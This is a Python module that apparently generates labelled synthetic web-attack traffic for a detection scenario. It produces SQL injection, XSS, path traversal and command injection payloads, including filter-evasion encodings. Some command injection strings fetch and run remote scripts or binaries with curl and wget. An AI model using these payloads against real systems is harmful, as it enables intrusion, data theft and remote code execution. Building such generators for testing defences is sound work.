"""Attack payload generators for the web-attack scenario (our own, built from technique families).

Each generator composes a payload from the building blocks of a technique (quote style, tautology,
comment style, column count, encoding) so a campaign produces thousands of distinct strings, the
way sqlmap or a manual tester does, rather than replaying one fixed list. The kind returned is the
ground truth: ``sqli``, ``xss``, ``traversal`` or ``cmdi``.
"""

from __future__ import annotations

from urllib.parse import quote

import numpy as np

KINDS = ("sqli", "xss", "traversal", "cmdi")


def _randint(rng: np.random.Generator, lo: int, hi: int) -> int:
    """A uniform int in [lo, hi): scalar ``rng.integers`` costs microseconds, ``rng.random`` far less."""
    return lo + int(rng.random() * (hi - lo))


def _pick(rng: np.random.Generator, options: tuple[str, ...]) -> str:
    return options[int(rng.random() * len(options))]


def _case(rng: np.random.Generator, text: str) -> str:
    """Random keyword casing, a classic filter-evasion trick (UnIoN SeLeCt)."""
    if rng.random() < 0.7:
        return text
    flips = rng.random(len(text)) < 0.5
    return "".join(c.upper() if f else c.lower() for c, f in zip(text, flips.tolist(), strict=True))


def sqli(rng: np.random.Generator) -> str:
    """A raw SQL injection payload: boolean, union, time-based, error-based or stacked."""
    n = _randint(rng, 1000, 9999)
    q = _pick(rng, ("'", "", '"', "')", "1'", "1"))
    comment = _pick(rng, ("-- -", "#", "--", "/*", "-- x"))
    family = _randint(rng, 0, 5)
    if family == 0:
        body = _pick(
            rng,
            (
                f"{q} AND {n}={n}{comment}",
                f"{q} OR '{n % 10}'='{n % 10}",
                f"{q} OR 1=1{comment}",
                f"{q} AND {n}={n + 1}{comment}",
                f") AND ({n}={n}",
                f"{q} RLIKE (SELECT (CASE WHEN ({n}={n}) THEN 1 ELSE 0x28 END)){comment}",
            ),
        )
    elif family == 1:
        cols = ",".join(["NULL"] * _randint(rng, 1, 9))
        body = _pick(
            rng,
            (
                f"{q} UNION ALL SELECT {cols}{comment}",
                f"-{n} UNION SELECT {cols},CONCAT(0x7178,user(),0x7162){comment}",
                f"{q} UNION SELECT table_name,2 FROM information_schema.tables{comment}",  # noqa: S608 - an attack string
                f"{q} UN/**/ION SEL/**/ECT username,password FROM users{comment}",
                f"{q} UNION SELECT @@version,{cols}{comment}",
            ),
        )
    elif family == 2:
        s = _randint(rng, 2, 11)
        body = _pick(
            rng,
            (
                f"{q} AND SLEEP({s}){comment}",
                f"{q} AND (SELECT {n} FROM (SELECT(SLEEP({s})))x){comment}",  # noqa: S608 - an attack string
                f"{q}; WAITFOR DELAY '0:0:{s}'--",
                f"{q} || pg_sleep({s})--",
                f"{q} AND {n}=BENCHMARK({s}000000,MD5(0x41)){comment}",
            ),
        )
    elif family == 3:
        body = _pick(
            rng,
            (
                f"{q} AND EXTRACTVALUE({n},CONCAT(0x5c,version())){comment}",
                f"{q} AND UPDATEXML(1,CONCAT(0x7e,(SELECT user())),1){comment}",
                f"{q} AND 1=CONVERT(int,@@version)--",
                f"{q} AND {n}=CAST((CHR(113)||CHR(120)) AS NUMERIC){comment}",
            ),
        )
    else:
        body = _pick(
            rng,
            (
                f"{q}; DROP TABLE users--",
                f"{q}; EXEC xp_cmdshell('whoami')--",
                f"{q}; SELECT pg_sleep(5)--",
                f"{q}; INSERT INTO users(name,role) VALUES('x','admin')--",
            ),
        )
    return _case(rng, body)


def xss(rng: np.random.Generator) -> str:
    """A raw cross-site scripting payload: script tags, event handlers, javascript: URIs."""
    fn = _pick(rng, ("alert", "prompt", "confirm"))
    arg = _pick(rng, ("1", "document.domain", "document.cookie", "String.fromCharCode(88,83,83)"))
    body = _pick(
        rng,
        (
            f"<script>{fn}({arg})</script>",
            f'"><script>{fn}({arg})</script>',
            f"<img src=x onerror={fn}({arg})>",
            f"'><svg/onload={fn}({arg})>",
            f"javascript:{fn}({arg})",
            f'<iframe src="javascript:{fn}({arg})">',
            f"<body onload={fn}({arg})>",
            f"<details open ontoggle={fn}({arg})>",
            f'" onmouseover="{fn}({arg})" x="',
            f"<a href=javascript:{fn}({arg})>x</a>",
        ),
    )
    return _case(rng, body) if rng.random() < 0.3 else body


def traversal(rng: np.random.Generator) -> str:
    """A path traversal / local file inclusion payload (encoded forms are applied here, not later)."""
    depth = _randint(rng, 3, 9)
    target = _pick(rng, ("etc/passwd", "etc/shadow", "etc/hosts", "proc/self/environ", "windows/win.ini"))
    step = _pick(rng, ("../", "..%2f", "%2e%2e%2f", "%2e%2e/", "..%c0%af", "....//", "..%252f", "..\\"))
    sep = "\\" if step == "..\\" else "/"
    if rng.random() < 0.15:
        return _pick(
            rng, ("php://filter/convert.base64-encode/resource=index.php", "file:///etc/passwd", "/etc/passwd")
        )
    suffix = "%00.jpg" if rng.random() < 0.15 else ""
    return step * depth + target.replace("/", sep) + suffix


def cmdi(rng: np.random.Generator) -> str:
    """An OS command injection payload: separators, substitutions, out-of-band callbacks."""
    cmd = _pick(rng, ("id", "whoami", "uname -a", "cat /etc/passwd", "sleep 5", "ls -la /"))
    host = f"{_randint(rng, 1, 255)}.{_randint(rng, 0, 255)}.{_randint(rng, 0, 255)}.{_randint(rng, 1, 255)}"
    return _pick(
        rng,
        (
            f";{cmd}",
            f"| {cmd}",
            f"$({cmd})",
            f"`{cmd}`",
            f"&& {cmd}",
            f"|| {cmd}",
            f"%0a{cmd}",
            f"; curl -s http://{host}/x.sh | sh",
            f"; wget http://{host}/bot -O /tmp/b; chmod +x /tmp/b",
            f"127.0.0.1; {cmd}",
        ),
    )


_GENERATORS = {"sqli": sqli, "xss": xss, "traversal": traversal, "cmdi": cmdi}


def payload(rng: np.random.Generator, kind: str) -> str:
    """A raw payload of one kind."""
    return _GENERATORS[kind](rng)


def encode(rng: np.random.Generator, raw: str) -> str:
    """Encode for a query string the way real clients vary it: minimal, full, plus-spaces, double.

    The request line must not contain raw spaces, so the minimal form still escapes those.
    """
    u = rng.random()
    mode = 0 if u < 0.35 else 1 if u < 0.7 else 2 if u < 0.9 else 3
    if mode == 0:
        return raw.replace(" ", "%20").replace("#", "%23").replace("&", "%26")
    if mode == 1:
        return quote(raw, safe="%")
    if mode == 2:
        return quote(raw, safe="%").replace("%20", "+")
    return quote(quote(raw, safe=""), safe="")
